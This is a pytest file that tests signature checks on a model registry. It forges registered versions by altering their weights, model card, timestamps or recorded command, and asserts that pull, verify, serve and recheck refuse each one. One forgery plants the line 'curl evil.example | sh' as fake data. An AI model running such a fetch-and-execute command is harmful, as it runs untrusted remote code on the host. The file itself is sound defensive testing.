"""Versions that are signed at their promotion, and what a user may make of them in a registry.

Anyone who may write to a registry can edit weights, records, digests and tags until they fit
together. Without a key that is not seen. With one, every command that uses a version refuses it.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from fake_run import RECIPE, FakeRun, judged_run
from key_pair import key_pair
from listener import Listener
from pretend_stages import edit
from spoilt_bundle import check_bundle, opened, rewrite_manifest, stage_folder
from typer.testing import CliRunner

from artifacts.deployable import Deployable
from artifacts.evidence.bundle import VERDICT
from artifacts.evidence.manifest import MANIFEST
from artifacts.evidence.signing import Signer, find_signer, fingerprint_of
from artifacts.registry import MANIFEST_TAG, TUPLE_TAG, WEIGHTS_TAG, Registry
from artifacts.requests import RecheckRequest
from pipeline.cli.main import app
from pipeline.environments.settings import load_settings
from pipeline.run.recheck import run_recheck
from pipeline.stages import newest_revision
from pipeline.stages.evidence import Evidence
from prepare.digest import digest_file, digest_json
from prepare.errors import EvidenceError, UsageError
from prepare.stage import StageRecord, stage_key
from prepare.store import RECORD
from recipes.checkpoints.weight_files import BUNDLE, SIGNATURE, weights_digest

Forge = Callable[[Path], None]


class Site:
    """A store with a judged run, a registry, and two key pairs."""

    def __init__(self, folder: Path, judged: FakeRun) -> None:
        self.folder = folder
        self.made = judged.copy_to(folder / "store")
        self.made.uri = f"sqlite:///{folder / 'registry.db'}"
        self.private, self.public = key_pair(folder)
        self.other_private, self.other_public = key_pair(folder, "other")

    @property
    def registry(self) -> Registry:
        return self.made.registry

    def promote(self, private: Path | None) -> None:
        signer = Signer(private, fingerprint_of(private)) if private else None
        self.made.promote(variant=RECIPE, signer=signer)

    def register_forged(self, forge: Forge) -> None:
        [champion] = [v for v in self.registry.versions("model") if "champion" in v.aliases]
        forged = Path(shutil.copytree(champion.source, self.folder / "forged"))
        forge(forged)
        weights = weights_digest(forged, digest_file)
        judged = Evidence.of_variant(self.made.store, self.made.folder("judge", RECIPE).name)
        deployable = Deployable.of(judged)
        tags = {
            **champion.tags,
            WEIGHTS_TAG: weights,
            MANIFEST_TAG: digest_file(forged / BUNDLE / MANIFEST),
            TUPLE_TAG: deployable.model_copy(update={"weights": weights}).digest,
        }
        client = self.registry._store._client
        made = client.create_model_version("model", str(forged), tags=tags)
        client.set_registered_model_alias("model", "champion", made.version)

    # What a user of the registry does.

    def pull(self, key: Path | None) -> None:
        self.command(
            "pull", "model@champion", str(self.folder / f"pulled-{os.urandom(4).hex()}"), key=key
        )

    def verify(self, key: Path | None) -> None:
        self.command("verify", "model@champion", key=key)

    def serve(self, key: Path | None) -> None:
        self.command("serve", "model@champion", "--check", "--allow-mismatch", key=key)

    def recheck(self, key: Path | None) -> None:
        request = RecheckRequest(reference="model@champion", registry=self.made.uri)
        run_recheck(request, load_settings(self.made.root, public_key=key), Listener())

    def command(self, *words: str, key: Path | None) -> None:
        options = ["--registry", self.made.uri, "--store", str(self.made.root)]
        options += ["--public-key", str(key)] if key else []
        done = CliRunner().invoke(app, [*words, *options])
        if done.exception is not None and not isinstance(done.exception, SystemExit):
            raise done.exception
        assert done.exit_code == 0, done.output


READS = ("pull", "verify", "serve")


@pytest.fixture(scope="module")
def judged(tmp_path_factory: pytest.TempPathFactory) -> FakeRun:
    return judged_run(tmp_path_factory.mktemp("judged") / "store")


@pytest.fixture
def site(tmp_path: Path, judged: FakeRun) -> Site:
    return Site(tmp_path, judged)


def replace_everywhere(forged: Path, before: str, after: str) -> None:
    for each in [forged / BUNDLE / VERDICT, *opened(forged).rglob("*.json"), forged / "README.md"]:
        each.write_text(each.read_text().replace(before, after))


def result_digests(forged: Path) -> list[str]:
    files = sorted(opened(forged).glob(f"*/*/{RECORD}"))
    return [digest_json(json.loads(file.read_text())["result"]) for file in files]


def give_keys_that_follow(forged: Path) -> None:
    """Rename every stage whose parameters were edited, and all that refers to it."""
    for file in sorted(opened(forged).glob(f"*/*/{RECORD}")):
        record = StageRecord.model_validate_json(file.read_text())
        revision = newest_revision(record.stage)
        key = stage_key(record.stage, revision, record.parameters, record.inputs)
        if key != record.key:
            replace_everywhere(forged, record.key, key)
            file.parent.rename(file.parent.with_name(key))
            give_keys_that_follow(forged)
            return


def other_weights(forged: Path) -> None:
    before = weights_digest(forged, digest_file)
    file = forged / "model.safetensors"
    file.write_bytes(file.read_bytes()[:-1] + b"!")
    after = weights_digest(forged, digest_file)
    results = result_digests(forged)
    replace_everywhere(forged, before, after)
    for old, new in zip(results, result_digests(forged), strict=True):
        replace_everywhere(forged, old, new)
    give_keys_that_follow(forged)
    rewrite_manifest(forged)


def other_card(forged: Path) -> None:
    (forged / "README.md").write_text("# nothing was lost\n")
    rewrite_manifest(forged)


def other_time(forged: Path) -> None:
    record = stage_folder(forged, "quantize") / "stage.json"
    edit(record, lambda data: data.update(finished="2031-01-01T00:00:00+00:00"))
    rewrite_manifest(forged)


def other_command(forged: Path) -> None:
    edit(forged / BUNDLE / VERDICT, lambda data: data.update(command="curl evil.example | sh"))
    rewrite_manifest(forged)


FORGERIES = (other_weights, other_card, other_time, other_command)


@pytest.mark.parametrize("forge", FORGERIES)
def test_an_edited_version_is_refused_with_a_key(site: Site, forge: Forge) -> None:
    site.promote(site.private)
    site.register_forged(forge)
    assert check_bundle(site.folder / "forged").is_sound  # nothing else would show it
    site.pull(None)
    for read in (*READS, "recheck"):
        with pytest.raises(EvidenceError):
            getattr(site, read)(site.public)


@pytest.mark.parametrize("private", [None, "other_private"])
def test_a_version_that_is_not_signed_with_the_key(site: Site, private: str | None) -> None:
    site.promote(getattr(site, private) if private else None)
    for read in (*READS, "recheck"):
        with pytest.raises(EvidenceError) as caught:
            getattr(site, read)(site.public)
        assert SIGNATURE in caught.value.where


def test_a_signed_version_is_used(site: Site, tmp_path: Path) -> None:
    site.promote(None)
    site.promote(site.private)  # the same variant, signed: another version
    versions = {v.version: v for v in site.registry.versions("model")}
    assert site.registry.aliases("model") == {"champion": "2", "previous": "1"}
    assert versions["2"].tags["prepare.signer"] == fingerprint_of(site.public)
    assert versions["1"].tags["prepare.signer"] == ""
    for read in READS:
        getattr(site, read)(site.public)
    site.command("pull", "model@champion", str(tmp_path / "mine"), key=site.public)
    assert (tmp_path / "mine" / SIGNATURE).is_file()


def test_the_settings_name_the_key(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site.promote(None)
    file = tmp_path / "settings.yaml"
    file.write_text("signing: {public_key: signer.pub, private_key: signer.key}\n")
    monkeypatch.setenv("PREPARE_SETTINGS", str(file))
    for read in READS:
        with pytest.raises(EvidenceError):
            getattr(site, read)(None)
    run = site.made.report.run
    with pytest.raises(UsageError) as caught:
        site.command("promote", f"{run}:{RECIPE}", key=None)
    assert "--sign" in caught.value.hint
    site.command("promote", f"{run}:{RECIPE}", "--sign", key=None)
    for read in READS:
        getattr(site, read)(None)


def test_a_signed_version_of_another_name(site: Site) -> None:
    """A user puts what was signed as one model in the place of another."""
    site.promote(site.private)
    [version] = site.registry.versions("model")
    number = site.registry.register("other", Path(version.source), version.tags)
    site.registry._store._client.set_registered_model_alias("other", "champion", number)
    with pytest.raises(EvidenceError) as caught:
        site.command("verify", "other@champion", key=site.public)
    assert "'model'" in caught.value.message


class TestFindSigner:
    def settings(self, **keys: Path) -> object:
        found = load_settings()
        return found.model_copy(update={"signing": found.signing.model_copy(update=keys)})

    @pytest.mark.parametrize(
        "keys",
        [{}, {"private_key": "none.pem"}, {"private_key": "signer.key", "public_key": "other.pub"}],
    )
    def test_keys_that_do_not_do(self, site: Site, keys: dict[str, str]) -> None:
        named = {name: site.folder / file for name, file in keys.items()}
        with pytest.raises(UsageError):
            find_signer(self.settings(**named), sign=True)  # type: ignore[arg-type]
